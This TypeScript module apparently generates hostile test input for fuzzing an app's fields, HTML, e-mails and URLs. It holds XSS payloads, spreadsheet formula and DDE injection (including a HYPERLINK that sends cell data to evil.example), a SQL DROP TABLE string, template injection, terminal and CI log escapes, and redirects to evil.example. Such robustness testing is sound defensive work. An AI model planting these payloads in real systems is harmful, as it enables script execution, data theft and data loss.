/** Each attack keeps the text, so that rows can be recognized. */
import { rng } from "../../core/random.ts";

type Attack = (text: string) => string;

/** Or the field's own length. */
const longestWord = 10_000;

const spread = (text: string, mark: string): string => [...text].join(mark);

/** For the shortest fields. */
const short: readonly Attack[] = [
  (text) => `<b>${text}</b>`,
  (text) => `=1+${text}`,
  (text) => `\u202e${text}`,
  (text) => `${text}\u{1d56c}`,
  (text) => `@${text}`,
];

const long: readonly Attack[] = [
  (text) => `${text}<script>alert(1)</script>`,
  (text) => `"><img src=x onerror=alert(2)>${text}`,
  (text) => `${text}<svg/onload=alert(3)><iframe srcdoc="<script>parent.alert(4)</script>">`,
  (text) => `=HYPERLINK("http://evil.example/?"&A1;"${text}")`,
  (text) => `-2+3+cmd|' /C calc'!A0 ${text}`,
  (text) => `\u202e${text}\u2066\u202d`,
  (text) => `${text} \u0645\u0631\u062d\u0628\u0627\u200f \u05e9\u05dc\u05d5\u05dd`,
  (text) => spread(text, "\u200b"),
  (text) =>
    `${text} \u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}\u{1f3f3}\ufe0f\u200d\u{1f308}\u{1d56c}`,
  (text) => `${text}${"\u0301\u0336".repeat(20)}`,
  (text) => `${text}\u001b[2J\u001b]0;owned\u0007`,
  (text) => `${text}\r\n::error::injected\r\n##[error]injected`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would run must stay text
  (text) => `${text} {{constructor.constructor('alert(5)')()}} ${"${alert(6)}"} %s%n`,
  (text) => `${text}'; DROP TABLE building; --\u2028\u2029`,
];

/** Deterministic, at most `most` characters. */
export function hostileText(text: string, most: number): string {
  if (text.trim() === "") return text;
  const draw = drawn(text);
  // One in eight is a word without a break.
  if (draw % 8 === 0 && text.length < most) return longWord(text, Math.min(most, longestWord));
  const wanted = long[draw % long.length]?.(text) ?? text;
  if (wanted.length <= most) return wanted;
  const smaller = short[draw % short.length]?.(text) ?? text;
  return smaller.length <= most ? smaller : text;
}

const longWord = (text: string, length: number): string => text.replaceAll(" ", "_").padEnd(length, "W");

/** Everything that a page must not run or show, after the original. */
export const hostileHtml = (html: string, most: number): string => {
  const all = `${html}${richAttacks.join("")}<p>${"W".repeat(2000)}</p>`;
  return all.length <= most ? all : html;
};

const richAttacks = [
  "<script>alert(10)</script>",
  '<img src="x" onerror="alert(11)">',
  '<a href="javascript:alert(12)">a</a><a href=" jAvAsCrIpT:alert(13)">b</a><a href="data:text/html,<script>alert(14)</script>">c</a>',
  '<svg><script>alert(15)</script><a xlink:href="javascript:alert(16)"><text>d</text></a></svg>',
  '<iframe src="javascript:alert(17)"></iframe><object data="x"></object><form action="https://evil.example"><input name="a"></form>',
  '<p style="position:fixed;inset:0;background:red" onclick="alert(18)">e</p><style>*{display:none}</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(19)&gt;">',
  "<base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=https://evil.example'>",
];

/** Still an e-mail address for the contract. */
export const hostileEmail = (email: string): string => {
  const [local = "", domain = ""] = email.split("@");
  return drawn(email) % 2 === 0 && domain !== ""
    ? `${local}"><img/src=x/onerror=alert(20)>@${domain}`
    : `=cmd|'/c'!a0+${local}@${"w".repeat(60)}.${domain}`;
};

/** A path of this server stays, as its picture must be found. */
export const hostileUrl = (url: string): string =>
  url.startsWith("/") ? url : `${url}?q="><script>alert(21)</script>&${"w".repeat(500)}`;

/** Deterministic. */
const drawn = (text: string): number => rng("hostile", text, 0).next();
